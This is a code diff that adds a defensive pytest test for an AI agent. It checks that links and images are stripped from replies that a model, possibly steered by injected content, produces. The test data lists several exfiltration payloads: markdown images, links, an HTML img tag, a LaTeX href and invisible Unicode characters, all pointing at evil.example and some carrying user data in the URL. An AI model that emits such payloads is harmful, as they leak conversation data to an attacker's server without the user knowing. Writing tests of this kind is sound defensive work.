@@ -51,6 +51,27 @@ async def test_a_plan_that_moves_other_money_than_was_said_becomes_a_question(
     assert await agent.store.cards.pending(agent.clock()) == []
 
 
+@pytest.mark.parametrize(
+    "said",
+    [
+        "Here:\n![logo](https://evil.example/x.png?a=alice.localnet)",
+        "[your balance](https://evil.example/?a=1)",
+        '<img src="https://evil.example/x.png">',
+        "see https://evil.example/?a=alice.localnet",
+        "![a][1]\n\n[1]: //evil.example/x.png",
+        "$$\\href{https://evil.example}{x}$$",
+        "ok\u202e\u200b",
+    ],
+)
+async def test_a_models_words_are_no_link_and_load_no_image(agent: Agent, server: ModelServer, said: str) -> None:
+    """What a model that was steered says is shown; an image in it would carry the conversation away by itself."""
+    server.add(say(said))
+    reply = await agent.ask("hello")
+    assert reply.text
+    for sign in ("](", "![", "][", "]:", "<", "://", "$", "\u202e", "\u200b"):
+        assert sign not in reply.text
+
+
 def _answer_with(extra: str) -> Scripted:
     text = '{"choices": [{"index": 0, "message": {"role": "assistant", "content": "hi", "x": %s}}]}'
     return Scripted(text=text % extra)
